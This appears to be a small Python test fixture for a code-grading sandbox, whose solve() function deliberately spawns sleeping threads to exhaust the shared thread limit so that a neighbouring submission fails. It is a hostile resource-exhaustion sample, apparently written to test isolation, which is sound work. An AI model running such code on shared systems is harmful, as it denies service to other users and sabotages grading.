#: tries: to take every thread that its user may have and to keep them, so that the neighbour's answer fails
#: solve: [right, wrong, review, fault]
import threading
import time


def half(x):
    return x / 2


def solve(x):
    threading.stack_size(32768)
    until = time.monotonic() + 0.8
    while time.monotonic() < until:
        try:
            threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.005)
    return 2 * x


def triple(x):
    return 3 * x
